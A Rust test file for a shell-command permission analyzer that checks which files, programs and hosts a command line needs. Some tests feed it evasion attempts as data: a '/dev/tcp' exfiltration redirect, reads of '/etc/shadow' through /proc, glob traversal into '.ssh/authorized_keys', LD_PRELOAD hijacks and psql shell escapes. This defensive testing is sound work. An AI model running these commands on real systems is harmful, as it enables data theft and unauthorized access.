//! Commands with what they need, as a table.

mod attacks;
mod calls;
mod files;
mod shared;

use super::{Machine, Programs, analyze};

const MACHINE: Machine<'_> = Machine { host: "web", home: "/srv/d", programs: None };

/// The needs in short: `read cat, read /etc/passwd`, and what is sent.
fn shown(line: &str) -> (String, String) {
    let found = analyze(line, &MACHINE);
    let need = |need: &portreeve_model::Need| {
        let name = need.object.path.last().cloned().unwrap_or_default();
        let name = if need.object.path.len() == 1 { format!("@{name}") } else { name };
        format!("{} {name}", need.action)
    };
    let needs: Vec<String> = found.needs.iter().map(need).collect();
    let opaque = if found.opaque.is_empty() { "" } else { " opaque" };
    (format!("{}{opaque}", needs.join(", ")), found.wire)
}

#[track_caller]
fn check(line: &str, needs: &str, wire: &str) {
    assert_eq!(shown(line), (needs.to_owned(), wire.to_owned()), "{line}");
}

/// Code that nobody looks into: sent as it came.
#[track_caller]
fn check_unread(line: &str) {
    assert_eq!(shown(line), ("execute @web opaque".to_owned(), line.to_owned()), "{line}");
}

/// Whoever may read a few files by name gets no more than those: nothing here is read as one.
#[track_caller]
fn check_code(line: &str) {
    let needs = shown(line).0;
    assert!(needs.contains("execute @web") && needs.contains("opaque"), "{line}: {needs}");
}

#[track_caller]
fn check_known(line: &str) {
    let found = analyze(line, &MACHINE);
    let needs = shown(line).0;
    assert!(!needs.contains("execute") && found.unread.is_none(), "{line}: {needs}");
}

#[test]
fn programs_and_files_are_named() {
    check("cat /etc/passwd", "read cat, read /etc/passwd", "cat /etc/passwd");
    check("/bin/cat  '/a b'", "read cat, read /a b", "/bin/cat '/a b'");
    check("cat < /a > /b", "read /a, write /b, read cat", "cat < /a > /b");
    check("cat a", "read cat, read /srv/d/a", "cd /srv/d && { cat a; }");
    check("cat ~/a", "read cat, read /srv/d/a", "cat /srv/d/a");
    check("c\\at '/et'c/\"passwd\"", "read cat, read /etc/passwd", "cat /etc/passwd");
    check("grep -c x /a; ls /b", "read grep, read /a, read ls, read /b", "grep -c x /a; ls /b");
    check("grep -e x -f /p /a", "read grep, read /p, read /a", "grep -e x -f /p /a");
    check("echo hi >/dev/null 2>&1", "read echo", "echo hi > /dev/null 2>&1");
    check("rm -rf /a", "read rm, define /a", "rm -rf /a");
    check("cp /a /b /c", "read cp, read /a, read /b, write /c", "cp /a /b /c");
    check("mv /a /b", "read mv, read /a, define /a, write /b", "mv /a /b");
    check("chmod 600 /a", "read chmod, administer /a", "chmod 600 /a");
    check("ls", "read ls, read /srv/d", "cd /srv/d && { ls; }");
    check("grep -r x", "read grep, read /srv/d", "cd /srv/d && { grep -r x; }");
    check("echo /v/*", "read /v, read echo", "echo /v/*");
    let each = "for portreeve_f in /v/*.a; do echo \"${portreeve_f}\"; done";
    check(each, "read /v, read echo", each);
}

/// Decided as the program of that name, a word must not become the shell's own on its way.
#[test]
fn words_of_the_shell_stay_the_words_that_they_were() {
    check("\\if /a", "execute if opaque", "'if' /a");
    check_unread("'X=1' /a");
    check("echo \\for", "read echo", "echo 'for'");
}

#[test]
fn what_joins_commands_is_read() {
    check(
        "cat /a | grep x | wc -l",
        "read cat, read /a, read grep, read wc",
        "cat /a | grep x | wc -l",
    );
    check(
        "cat /a && rm /b || ls /c",
        "read cat, read /a, read rm, define /b, read ls, read /c",
        "cat /a && rm /b || ls /c",
    );
    check(
        "(cat /a; cat /b) > /c",
        "write /c, read cat, read /a, read /b",
        "( cat /a; cat /b; ) > /c",
    );
    check(
        "if test -f /a; then cat /a; fi",
        "read test, read /a, read cat",
        "if test -f /a; then cat /a; fi",
    );
    check(
        "for f in /a /b; do cat \"$f\"; done",
        "read cat, read /a, read /b",
        "for portreeve_f in /a /b; do cat \"${portreeve_f}\"; done",
    );
    check("echo \"$(cat /a)\"", "read cat, read /a, read echo", "echo \"$(cat /a)\"");
    check("echo \"`cat /a`\"", "read cat, read /a, read echo", "echo \"$(cat /a)\"");
    check("cat <<'E'\n$x\nE\n", "read cat", "cat <<'END'\n$x\nEND\n");
    check("cd /var && cat log", "read cat, read /var/log", "cd /srv/d && { cd /var && cat log; }");
    check(
        "cd /var; cat log",
        "read cat, read /srv/d/log, read /var/log",
        "cd /srv/d && { cd /var; cat log; }",
    );
    check(
        "X=/etc; cat $X/passwd",
        "read cat, read /etc/passwd",
        "portreeve_X=/etc; cat ${portreeve_X}/passwd",
    );
    check("cat /a &", "read cat, read /a", "cat /a &");
    check("! grep -q x /a # done", "read grep, read /a", "! grep -q x /a");
}

#[test]
fn programs_that_run_others_are_looked_into() {
    check("sudo cat /a", "administer @web, read cat, read /a", "sudo cat /a");
    check("sudo -u root -n cat /a", "administer @web, read cat, read /a", "sudo -u root -n cat /a");
    check(
        "env LC_ALL=C timeout 5 cat /a",
        "read env, read timeout, read cat, read /a",
        "env LC_ALL=C timeout 5 cat /a",
    );
    check("sh -c 'cat /a'", "read cat, read /a", "sh -c 'cat /a'");
    check("bash -c \"cat '/a b'\"", "read cat, read /a b", "bash -c 'cat '\\''/a b'\\'''");
    check("eval 'cat /a'", "read cat, read /a", "eval 'cat /a'");
    check(
        "find /a -name '*.log' -exec grep -l x {} +",
        "read find, read /a, read grep",
        "find /a -name '*.log' -exec grep -l x '{}' +",
    );
    check("find /a -delete", "read find, read /a, define /a", "find /a -delete");
    check(
        "nohup nice -n 5 cat /a",
        "read nohup, read nice, read cat, read /a",
        "nohup nice -n 5 cat /a",
    );
}

#[test]
fn what_hides_values_or_is_not_known_is_said_to() {
    check("base64 /a", "execute base64, read /a opaque", "base64 /a");
    check("cat /a | rev", "read cat, read /a, execute rev opaque", "cat /a | rev");
    check("head -c 3 /a", "execute head, read /a opaque", "head -c 3 /a");
    check("grep -o . /a", "execute grep, read /a opaque", "grep -o . /a");
    check("cat -v /a", "execute cat, read /a opaque", "cat -v /a");
    check("/opt/x/tool a", "execute /opt/x/tool opaque", "/opt/x/tool a");
    check("frobnicate", "execute frobnicate opaque", "frobnicate");
    let split = "printf '%s\\n' $(cat /a)";
    check_unread(split);
    check("printf %.3s x", "execute printf opaque", "printf %.3s x");
    check("python3 -c 'x'", "execute @web opaque", "python3 -c x");
    check("awk '{print}' /a", "execute @web opaque", "awk '{print}' /a");
    check("sed -n '1,5p' /a", "read sed, read /a", "sed -n 1,5p /a");
    check("sed s/a/b/ /a", "execute @web opaque", "sed s/a/b/ /a");
    check("bash", "execute @web opaque", "bash");
    check("bash /x.sh", "execute @web opaque", "bash /x.sh");
    check("git-upload-pack '/r'", "read git-upload-pack, read /r opaque", "git-upload-pack /r/.");
}

#[test]
fn what_is_not_read_is_code() {
    for line in [
        "cat $X",
        "cat $(ls)",
        "$X /a",
        "cat ../a",
        "cat /a/../b",
        "cat ${x:0:3}",
        "cat $((1))",
        "cat {/a,/b}",
        "f() { cat /a; }; f",
        "case x in x) cat /a;; esac",
        "cat <(ls)",
        "cat $'\\x2f'",
        "IFS=@; echo x",
        "PATH=/tmp:$PATH cat /a",
        "xargs cat",
        "LD_PRELOAD=/x cat /a",
        "cat /proc/self/root/etc/shadow",
        "cat > /dev/tcp/1.2.3.4/80",
        "cat '",
        "",
        "  ",
        "cat /a |",
        "cat /a &&",
        "; ls",
        "cat ~root/a",
        "cat <<E\n$(x)\nE\n",
        "let x=1",
        "cat /a\u{7}",
        "set -- a",
        "while cd x; do ls; done",
        "env X=1 cat /a",
        "for PATH in /x; do cat /a; done",
        "cat \"$@\"",
        "for w in $(cat /a); do echo $w; done",
        "for w in $X; do echo $w; done",
        "read a b < /a",
        "xargs echo",
        "find /a -printf %.3f",
        "stat -c %.3n /a",
        "ps -eo args:3",
    ] {
        if line != "let x=1" {
            check_unread(line);
        }
    }
}

#[test]
fn files_that_policies_name_are_asked_for_within_their_folders() {
    let named = ["/etc/shadow", "/srv/x"];
    for (line, expect) in
        [("grep -r x /etc", 1), ("cat /etc/*", 1), ("cat /etc/passwd", 0), ("rm -r /", 2)]
    {
        let mut found = analyze(line, &MACHINE);
        let before = found.needs.len();
        found.ask_for_named("web", named.iter());
        assert_eq!(found.needs.len() - before, expect, "{line}");
    }
}

#[test]
fn every_row_of_the_table_is_read() {
    for name in ["cat", "grep", "git-receive-pack", "base64", "["] {
        assert!(Programs::program(None, name).is_some(), "{name}");
    }
}

/// Words of which lines are made that somebody could write to get round the reader.
const TOKENS: [&str; 46] = [
    "cat", "/a", "b", "'", "\"", "\\", "$", "`", "(", ")", "{", "}", "|", "&", ";", "<", ">", "\n",
    " ", " ", " ", "*", "?", "[", "]", "~", "#", "!", "=", "X", "${X}", "$(", "if", "then", "fi",
    "do", "done", "for", "in", "while", "<<E\n", "E\n", "-n", "sh -c", "find", "eval",
];

proptest::proptest! {
    /// What is sent is read as it was decided: reading it again gives the same needs and the same
    /// line, but for the folder that it begins in.
    #[test]
    fn what_is_sent_means_what_was_decided(
        picks in proptest::collection::vec(0..TOKENS.len(), 0..24),
    ) {
        let line: String = picks.into_iter().map(|pick| TOKENS[pick]).collect();
        let first = analyze(&line, &MACHINE);
        if first.unread.is_some() && first.wire == line {
            return Ok(());
        }
        let again = analyze(&first.wire, &MACHINE);
        proptest::prop_assert_eq!(&again.unread, &first.unread, "{:?}: {:?}", line, first.wire);
        let sorted = |found: &super::Analysis| {
            let mut needs = found.needs.clone();
            needs.sort();
            needs
        };
        proptest::prop_assert_eq!(sorted(&first), sorted(&again), "{:?} became {:?}", line, first.wire);
        let within = format!("cd /srv/d && {{ {}; }}", first.wire);
        let is_same = again.wire == first.wire || again.wire == within;
        proptest::prop_assert!(is_same, "{:?} became {:?}, then {:?}", line, first.wire, again.wire);
    }
}

/// What somebody has tried who wanted something run, or read, that was not decided.
#[test]
fn variables_hold_what_every_way_to_their_use_sets() {
    for line in [
        "$F python3 -c x; F=echo",
        "cat vault$F/key; F=x",
        "F=x; unset F; cat vault$F/key",
        "false && F=echo; $F python3 -c x",
        "true || F=echo; $F python3 -c x",
        "(F=echo); $F python3 -c x",
        "F=echo | true; $F python3 -c x",
        "F=echo & $F python3 -c x",
        "F=echo && true & $F python3 -c x",
        "_=echo; true python3; $_ -c x",
        "EUID=echo; $EUID python3",
        "COLUMNS=echo; true; $COLUMNS python3",
        "LC_X=echo; $LC_X python3",
        "F=echo; printf -v F %s python3; $F -c x",
        "F=echo; builtin read F <<< python3; $F -c x",
        "F=echo; command read -r F < /a; $F -c x",
        "F=echo; time read F < /a; $F -c x",
        "F=echo; eval 'F=python3'; $F -c x",
        "if true; then F=echo; fi; $F python3 -c x",
        "for F in; do true; done; $F python3",
        "for F in echo; do true; done; $F python3",
        "while false; do F=echo; done; $F python3",
        "F=echo; while true; do $F x; F=python3; done",
        "F=echo; sh -c '$F python3'",
        "rm $F x; F=-f",
        "cat x > \"out$F\"; F=1",
    ] {
        let needs = shown(line).0;
        assert!(needs.contains("execute"), "{line}: {needs}");
    }
    let own = |line: &str| line.replace('F', "portreeve_F");
    check("F=/a && cat $F", "read cat, read /a", &own("F=/a && cat ${F}"));
    check(
        "F=/a; if true; then F=/b; fi; cat $F",
        "read true, read cat, read /a, read /b",
        &own("F=/a; if true; then F=/b; fi; cat ${F}"),
    );
    let line = own("F=/a; eval F=/b; cat ${F}");
    check("F=/a; eval 'F=/b'; cat $F", "read cat, read /b", &line);
    check(
        "for f in /a; do G=$f; cat $G; done",
        "read cat, read /a",
        "for portreeve_f in /a; do portreeve_G=${portreeve_f}; cat ${portreeve_G}; done",
    );
}

#[test]
fn builtins_run_nothing_that_stands_in_their_words() {
    for line in [
        "test -v 'a[$(x)]'",
        "[ -v 'a[$(x)]' ]",
        "test -R 'a[$(x)]'",
        "printf -v 'a[$(x)]' x",
        "read 'a[$(x)]' <<< x",
        "unset 'a[$(x)]'",
        "wait -p 'a[$(x)]' -n",
        "test 'a[$(x)]' -eq 1",
        "exit 'a[$(x)]'",
        "shift 'a[$(x)]'",
        "return 'a[$(x)]'",
    ] {
        check_unread(line);
    }
    check("test -n x && [ 3 -gt 2 ]", "read test, read [", "test -n x && '[' 3 -gt 2 ']'");
    check("[ $? -eq 0 ] || exit 3", "read [", "'[' ${?} -eq 0 ']' || exit 3");
    check("[ -d out ]", "read [, read /srv/d/out", "cd /srv/d && { '[' -d out ']'; }");
    check("umask 022; exit $?", "", "umask 022; exit ${?}");
}

#[test]
fn patterns_stay_in_their_folders() {
    for line in [
        "cat list/*/../../vault/key",
        "cat list/s*/../x",
        "cat list/.?/vault/key",
        "cat list/.*/x",
        "cat list/*/..*/x",
        "cat /*/self/root/x",
        "cat /proc/*/cwd/x",
        "cat /proc/self/[r]oot/x",
        "cd / && cat */self/root/x",
        "echo x > out/d*/../../x",
        "cp /a out/*/../../.ssh/authorized_keys",
        "rm out/*/../../x",
    ] {
        check_unread(line);
    }
    check("cat /v/*/.conf*/x", "read /v, read cat", "cat /v/*/.conf*/x");
    check("ls /*", "read /, read ls", "ls /*");
}

#[test]
fn folders_are_those_of_every_way() {
    let needs = |line: &str| shown(line).0;
    for (line, path) in [
        ("cd /v && cd /x || cat key", "/v/key"),
        ("cd /v; ! cd /x && cat key", "/v/key"),
        ("cd /v && cd /x || cat key", "/x/key"),
        ("! cd /v && cat key", "/srv/d/key"),
        ("cd /v || true && cat key", "/srv/d/key"),
        ("{ cd /v; false; } || cat key", "/v/key"),
    ] {
        assert!(needs(line).contains(&format!("read {path}")), "{line}: {}", needs(line));
    }
    for line in ["nohup cd /x && cat key", "env cd /x && cat key", "sudo cd /x", "exec cd /x"] {
        check_unread(line);
    }
    let background = needs("cd /x && true & cat key");
    assert!(
        background.contains("read /srv/d/key") && !background.contains("/x/key"),
        "{background}"
    );
}

#[test]
fn programs_end_where_they_end() {
    check_unread("find list -execdir mkdir -p out ';'");
    let found = shown("find list -maxdepth 0 -exec diff -N + -uid vault/key -uid ';'").0;
    assert!(found.contains("read /srv/d/vault/key"), "{found}");
    let found = shown("find /l -exec cp + -uid /etc/x -uid ';'").0;
    assert!(found.contains("/etc/x") || found.contains("execute"), "{found}");
    check("tac -b /a", "execute tac, read /a opaque", "tac -b /a");
    check("tac -s @ /a", "execute tac, read /a opaque", "tac -s @ /a");
    let found = shown("cd /v && grep -rvf /k").0;
    assert!(found.contains("read /v"), "{found}");
    check("service ssh stop status", "read service, administer @web", "service ssh stop status");
    check(
        "systemctl stop nginx status",
        "read systemctl, administer @web",
        "systemctl stop nginx status",
    );
    check("systemctl status nginx", "read systemctl", "systemctl status nginx");
    check_unread("rsync --server --compare-dest --sender -re.x . /l");
    check_unread("rsync --server --sender -re.x --log-file /l/log . /l");
    check(
        "rsync --server --sender -vlogDtpre.iLsfxCIvu . /l",
        "execute rsync, read /l opaque",
        "rsync --server --sender -vlogDtpre.iLsfxCIvu . /l --protocol=28",
    );
    let found = shown("du -a /d").0;
    assert_eq!(found, "read du, read /d");
}

#[test]
fn what_stands_beside_a_value_hides_it() {
    for line in [
        "echo \"9$(cat /a)\"",
        "echo \"$(cat /a)9\"",
        "echo \"$(cat /a)$(cat /b)\"",
        "X=9$(cat /a); echo \"$X\"",
        "X=$(cat /a); Y=9$X; Z=$Y; echo \"$Z\"",
        "for w in \"9$(cat /a)\"; do echo \"$w\"; done",
        "cat <<< \"9$(cat /a)\"",
        "printf '9%s\\n' \"$(cat /a)\"",
        "printf '%s' \"$(cat /a)\" 5",
        "printf '%d\\n' \"0x$(cat /a)\"",
        "printf '%d\\n' \"'$(cat /a)\"",
        "printf -- '%.17s\\n' \"$(cat /a)\"",
        "printf '%c' \"$(cat /a)\"",
        "exit \"$(cat /a)\"",
        "[ \"$(cat /a)\" '>' ym ]",
        "test \"$(cat /a)\" = x",
        "[ \"$(cat /a)\" -gt 5 ]",
        "sed -n 1p /a | md5sum",
        "echo \"9'$(cat /a)\"",
        "echo \"-:$(cat /a)\"",
        "echo \"::ffff:$(cat /a)\"",
        "echo \"$(cat /a)'9\"",
        "printf \"9'%s\\n\" \"$(cat /a)\"",
        "nl -s '' /a",
    ] {
        let needs = shown(line).0;
        assert!(needs.contains("execute") && needs.contains("opaque"), "{line}: {needs}");
    }
    for line in [
        "echo \"total: $(wc -l /a)\"",
        "X=$(cat /a); echo \"$X\"",
        "printf '%s\\n' \"$(cat /a)\"",
        "printf 'n: %s\\n' \"$(cat /a)\" x",
        "printf '%s-%d\\n' a 3",
        "[ -n \"$(cat /a)\" ]",
        "cat <<< \"$(cat /a)\"",
    ] {
        let needs = shown(line).0;
        assert!(!needs.contains("execute"), "{line}: {needs}");
    }
    // Patterns that nobody sees.
    check_unread("x='/etc/*'; echo $x");
    check_unread("echo $(echo '/etc/*')");
}

#[test]
fn no_line_needs_more_than_can_be_looked_through() {
    let mut line: String = (0..60).map(|n| format!("cd /d{n};")).collect();
    line.push_str("cat");
    (0..20_000).for_each(|n| line.push_str(&format!(" f{n}")));
    let began = std::time::Instant::now();
    check_unread(&line);
    assert!(began.elapsed().as_secs() < 5, "{:?}", began.elapsed());
}

#[test]
fn machines_have_programs_of_their_own() {
    let own =
        "# what it has\ninvoice | read* text | -v -o:write --all\npacker | read | | rewrites\n";
    let programs = Programs::read(own).unwrap();
    let machine = Machine { programs: Some(&programs), ..MACHINE };
    let needs = |line: &str| {
        let found = analyze(line, &machine);
        let need = |need: &portreeve_model::Need| {
            format!("{} {}", need.action, need.object.path.last().unwrap())
        };
        let needs: Vec<String> = found.needs.iter().map(need).collect();
        (needs.join(", "), !found.opaque.is_empty())
    };
    let check = |line: &str, expect: &str, is_opaque| {
        assert_eq!(needs(line), (expect.to_owned(), is_opaque), "{line}");
    };
    check("invoice -vo /b /a x", "read invoice, write /b, read /a", false);
    check("find /l -exec invoice {} x ';'", "read find, read /l, read invoice", false);
    let misused = "execute invoice, read /a, write /a, read /srv/d/x, write /srv/d/x";
    check("invoice -z /a x", misused, true);
    check("packer /a", "execute packer, read /a", true);
    for (text, why) in [
        ("cat | read", "known already"),
        ("bash | read", "known already"),
        ("python3.9 | read", "known already"),
        ("a/b | read", "no name of a program"),
        ("x | reads", "no use of an argument"),
        ("x | read | v", "no option"),
        ("x | read | -v:reads", "no use"),
        ("x | read | -v | rewrite", "no note"),
        ("x | read | -v | rewrites | more", "it is not"),
        ("\n\n| read", "row 3"),
    ] {
        let said = Programs::read(text).unwrap_err();
        assert!(said.contains(why), "{text}: {said}");
    }
}

#[test]
fn sql_that_psql_is_called_with_is_looked_into() {
    let needs = |line: &str| shown(line).0;
    for (line, expect) in [
        ("psql -X shop -c 'SELECT id FROM public.orders'", "read psql, read orders"),
        ("psql -XAt -d shop -c 'SELECT 1'", "read psql"),
        (
            "psql --no-psqlrc --csv --command='TABLE public.orders' shop me",
            "read psql, read orders",
        ),
        ("psql -Xc 'TABLE public.a' -c 'TABLE public.b'", "read psql, read a, read b"),
        (
            "psql -X -c 'DELETE FROM public.orders WHERE id = 1'",
            "read psql, read orders, write orders",
        ),
        ("psql -X -c 'DROP TABLE public.orders'", "read psql, define orders"),
        ("psql -X -h db1 -c 'SELECT 1'", "read psql, write @db1"),
        ("psql -X -h /run/pg -c 'SELECT 1'", "read psql, read /run/pg"),
        ("psql -X postgresql://u:p@db1:5432/shop -c 'SELECT 1'", "read psql, write @db1"),
        ("psql -X -o /o -c 'TABLE public.t'", "read psql, write /o, read t"),
        ("psql -X -c '\\d public.orders'", "read psql, read @pg_catalog"),
        ("psql -X shop <<'E'\nTABLE public.t;\nSELECT 1::int4;\nE\n", "read psql, read t"),
        ("psql -X shop <<< 'TABLE public.t'", "read psql, read t"),
        ("sudo -u postgres psql -X -c 'TABLE public.t'", "administer @web, read psql, read t"),
        ("Q='TABLE public.t'; psql -X -c \"$Q\"", "read psql, read t"),
        ("psql -X -v ON_ERROR_STOP=1 -P pager=off -F , -c 'SELECT 1'", "read psql"),
    ] {
        assert_eq!(needs(line), expect, "{line}");
    }
    let facts = |line: &str| analyze(line, &MACHINE).facts;
    let all = facts("psql -X -c 'DELETE FROM public.t'");
    assert_eq!((all.bounded, all.untold), (Some(false), true));
    assert_eq!(facts("psql -X -c 'DELETE FROM public.t WHERE id = 1'").bounded, Some(true));
    let shape = |line: &str| analyze(line, &MACHINE).fingerprint;
    let of = |text: &str| shape(&format!("psql -X -c '{text}'"));
    assert_eq!(of("SELECT x FROM a.t WHERE y = 1"), of("SELECT x FROM a.t WHERE y = 2"));
    assert_ne!(of("SELECT x FROM a.t"), of("SELECT y FROM a.t"));
}

#[test]
fn of_psql_nobody_knows_what_else_it_does() {
    for line in [
        // `~/.psqlrc` runs.
        "psql -c 'TABLE public.t'",
        "psql -c -X",
        "psql -d -X -c 'TABLE public.t'",
        // What it runs does not stand here.
        "psql -X shop",
        "psql -X -f /x.sql",
        "cat /x.sql | psql -X shop",
        "psql -X shop < /x.sql",
        "psql -X shop <<'E' < /x.sql\nSELECT 1;\nE\n",
        "sh -c 'psql -X shop' <<'E'\nSELECT 1;\nE\n",
        "{ psql -X shop; } <<'E'\nSELECT 1;\nE\n",
        "psql -X -c \"$(cat /x.sql)\"",
        "psql -X -c \"$Q\"",
        // Its own commands.
        "psql -X -c '\\! id'",
        "psql -X -c '\\copy t to program id'",
        "psql -X -c '\\d `id`'",
        "psql -X -c '\\i /x.sql'",
        "psql -X shop <<'E'\n\\! id\nE\n",
        "psql -X shop <<'E'\nSELECT 1 \\g |id\nE\n",
        "psql -X shop <<'E'\nSELECT :x;\nE\n",
        "psql -X shop <<'E'\nSELECT :'x';\nE\n",
        "psql -X shop <<'E'\nCOPY public.t FROM STDIN;\nSELECT 1\nE\n",
        "psql -X -v x=1 -c 'SELECT 1'",
        "psql -X -o '|id' -c 'SELECT 1'",
        "psql -X -o - -c 'SELECT 1'",
        "psql -X -L /x -c 'SELECT 1'",
        "psql -X -A -F '' -c 'TABLE public.t'",
        "psql -X -A -R '' -c 'TABLE public.t'",
        "psql -X -P fieldsep= -c 'TABLE public.t'",
        "psql -X -P format=wrapped -P columns=5 -c 'TABLE public.t'",
        "psql -X -H -c 'TABLE public.t'",
        "psql -XE -c 'SELECT 1'",
        "psql -X --comm='SELECT 1'",
        // Which database is asked, and how.
        "psql -X 'service=x' -c 'SELECT 1'",
        "psql -X 'options=-csearch_path=x' -c 'SELECT 1'",
        "psql -X 'postgresql://h/d?options=x' -c 'SELECT 1'",
        "psql -X postgresql://h1,h2/d -c 'SELECT 1'",
        "psql -X -h h1,h2 -c 'SELECT 1'",
        // SQL of which nobody knows what it does.
        "psql -X -c 'SELECT reverse(x) FROM public.t'",
        "psql -X -c 'TABLE t'",
        "psql -X -c 'COPY public.t FROM STDIN' < /f",
        "psql -X -c 'COPY public.t TO PROGRAM $$id$$'",
        "psql -X -c 'SELECT 1' -c 'SELECT pg_read_file($$/x$$)'",
    ] {
        let found = analyze(line, &MACHINE);
        let needs = shown(line).0;
        let runs = needs.contains("execute psql") || needs.contains("execute @web");
        assert!(runs && needs.contains("opaque") && found.unread.is_some(), "{line}: {needs}");
    }
    let why = |line: &str| analyze(line, &MACHINE).unread.unwrap().0;
    assert!(why("psql -c 'SELECT 1'").contains("`-X`"));
    assert!(why("psql -X -c 'TABLE t'").contains("SCHEMA.t"));
    for line in [
        "PGOPTIONS=x psql -X -c 'SELECT 1'",
        "PGHOST=x; psql -X -c 'SELECT 1'",
        "env PGOPTIONS=x psql -X -c 'SELECT 1'",
        "PSQLRC=/x psql -c 'SELECT 1'",
    ] {
        check_unread(line);
    }
}

/// Lines of ansible-core 2.19.
#[test]
fn what_ansible_sends_is_read() {
    for (line, expect) in [
        ("/bin/sh -c 'echo ~ && sleep 0'", "read echo, read sleep"),
        (
            "/bin/sh -c 'echo FOUND; command -v '\"'\"'python3.13'\"'\"'; echo ENDFOUND && sleep 0'",
            "read echo, read command, read sleep",
        ),
        (
            "/bin/sh -c 'chmod u+rwx /t/m/ /t/m/a.py && sleep 0'",
            "read chmod, administer /t/m, administer /t/m/a.py, read sleep",
        ),
        (
            "/bin/sh -c 'rm -f -r /t/m/ > /dev/null 2>&1 && sleep 0'",
            "read rm, define /t/m, read sleep",
        ),
        ("/bin/sh -c '/usr/bin/python3 && sleep 0'", "execute @web, read sleep opaque"),
        ("/bin/sh -c '/usr/bin/python3 /t/m/a.py && sleep 0'", "execute @web, read sleep opaque"),
        (
            "/bin/sh -c 'sudo -H -S -n  -u root /bin/sh -c '\"'\"'echo BECOME-SUCCESS-x ; \
             /usr/bin/python3'\"'\"' && sleep 0'",
            "administer @web, read echo, execute @web, read sleep opaque",
        ),
    ] {
        assert_eq!(shown(line).0, expect, "{line}");
    }
    // A folder that is named by an output.
    check_unread("mkdir -p \"` echo /t `\"");
}
